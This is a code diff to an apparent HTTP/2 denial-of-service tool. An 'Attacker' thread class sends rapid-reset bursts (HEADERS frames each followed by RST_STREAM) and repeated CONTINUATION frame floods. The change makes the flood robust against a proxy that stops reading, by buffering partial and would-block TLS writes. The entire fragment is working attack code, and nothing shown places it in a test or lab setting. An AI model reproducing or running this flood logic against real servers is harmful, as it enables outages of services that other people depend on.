@@ -140,21 +140,24 @@ class Attacker(threading.Thread):
                 time.sleep(0.01)
                 continue
             self.stats["conns"] += 1
-            sid, end = 1, None
+            sid, end, pending = 1, None, b""
             try:
                 while not self.stop.is_set() and end is None:
-                    if self.kind == "rapid-reset":
-                        batch = b"".join(frame(1, 0x5, sid + 2 * i, block) +
-                                         frame(3, 0, sid + 2 * i, b"\x00\x00\x00\x08")
-                                         for i in range(50))
-                        sid += 100
+                    if not pending and self.kind == "rapid-reset":
                         if sid > 2 ** 31 - 200:
                             break
-                    else:
-                        batch = frame(1, 0x1, 1, block) + cont * 50 if sid == 1 else cont * 50
+                        pending = b"".join(frame(1, 0x5, sid + 2 * i, block) +
+                                           frame(3, 0, sid + 2 * i, b"\x00\x00\x00\x08")
+                                           for i in range(50))
+                        sid += 100
+                    elif not pending:
+                        pending = frame(1, 0x1, 1, block) + cont * 50 if sid == 1 else cont * 50
                         sid = 3
+                    # a proxy that stops reading is written to as it reads: what
+                    # one write left goes first in the next (the same bytes, as
+                    # TLS wants them again after a would-block)
                     try:
-                        s.sendall(batch)
+                        pending = pending[s.send(pending):]
                     except (ssl.SSLWantWriteError, BlockingIOError):
                         time.sleep(0.001)
                     except OSError:
